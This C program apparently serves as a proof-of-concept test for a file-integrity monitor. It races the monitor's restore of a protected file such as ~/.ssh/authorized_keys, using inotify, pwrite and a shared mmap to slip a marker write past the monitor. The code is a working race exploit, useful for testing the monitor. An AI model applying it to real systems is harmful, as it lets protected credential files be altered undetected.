/* The owner of a protected file (a user's ~/.ssh/authorized_keys)
 * catches the monitor's restore copy before it is renamed into place:
 * the copy is an unwatched new file, and after its fchown it is the
 * user's. A shared writable mapping of it, made then, is written once
 * the copy is the protected file, and such writes raise no event.
 *
 * Or, simpler, writes the copy at once and closes it: the copy was
 * written before, and its writes raise no event before it is watched.
 *
 * usage: restore_race DIR NAME map|write [gone|xattr]
 * unlinks DIR/NAME (or, with gone, finds it gone: the monitor restores
 * it at its start; with xattr, adds a security.* xattr, which the
 * monitor undoes by putting a copy in its place), opens the temporary copy
 * read-write; map: waits until it is DIR/NAME, then writes "EVIL!!" at
 * its start through the mapping, and keeps it; write: writes "EVIL!!"
 * at its start at once, closes it and exits. Exit 0: written; 3: the
 * copy could not be caught (try again); 2: error. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#define PREFIX ".fimguard-restore."

static double
now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* The name of the restore's temporary file, from IN_CREATE. */
static int
tmp_name(int in, char *name, size_t len)
{
	char buf[4096] __attribute__((aligned(8)));
	double end = now() + 5;

	while (now() < end) {
		ssize_t n = read(in, buf, sizeof(buf));

		for (char *p = buf; n > 0 && p < buf + n;) {
			struct inotify_event *e = (struct inotify_event *)p;

			if (e->len > 0 && strncmp(e->name, PREFIX,
			    strlen(PREFIX)) == 0) {
				snprintf(name, len, "%s", e->name);
				return 0;
			}
			p += sizeof(*e) + e->len;
		}
	}
	return -1;
}

int
main(int argc, char **argv)
{
	char tmp[NAME_MAX + 1];
	struct stat a, b;
	int dfd, in, fd = -1;
	double end;
	char *map;

	if (argc < 4 || (dfd = open(argv[1], O_RDONLY | O_DIRECTORY)) < 0 ||
	    (in = inotify_init1(IN_NONBLOCK)) < 0 ||
	    inotify_add_watch(in, argv[1], IN_CREATE) < 0)
		return 2;
	if (argc == 4 && unlinkat(dfd, argv[2], 0) < 0)
		return 2;
	if (argc > 4 && strcmp(argv[4], "xattr") == 0) {
		char path[PATH_MAX];

		snprintf(path, sizeof(path), "%s/%s", argv[1], argv[2]);
		if (setxattr(path, "security.evil", "1", 1, 0) < 0)
			return 2;
	} else if (argc > 4) {
		printf("ready\n");
		fflush(stdout);
	}
	if (tmp_name(in, tmp, sizeof(tmp)) < 0)
		return 2;
	/* root's 0600 until the monitor gives it to the owner */
	for (end = now() + 5; fd < 0 && now() < end;)
		if ((fd = openat(dfd, tmp, O_RDWR | O_NOFOLLOW)) < 0 &&
		    errno == ENOENT)
			return 3;
	if (fd < 0 || fstat(fd, &a) < 0)
		return 3;
	if (strcmp(argv[3], "write") == 0) {
		/* after the monitor's copy (root may open it before) */
		for (end = now() + 5; a.st_size == 0 && now() < end;)
			if (fstat(fd, &a) < 0)
				return 2;
		if (pwrite(fd, "EVIL!!", 6, 0) != 6)
			return 2;
		close(fd);
		printf("written\n");
		return 0;
	}
	for (end = now() + 5; now() < end; usleep(1000))
		if (fstatat(dfd, argv[2], &b, AT_SYMLINK_NOFOLLOW) == 0 &&
		    b.st_ino == a.st_ino)
			break;
	if (b.st_ino != a.st_ino)
		return 3;
	usleep(300000);		/* the monitor has verified and re-watched it */
	map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (map == MAP_FAILED)
		return 2;
	close(fd);
	memcpy(map, "EVIL!!", 6);
	if (msync(map, 4096, MS_SYNC) < 0)
		return 2;
	printf("written\n");
	fflush(stdout);
	pause();	/* keeps the mapping until killed */
	return 0;
}
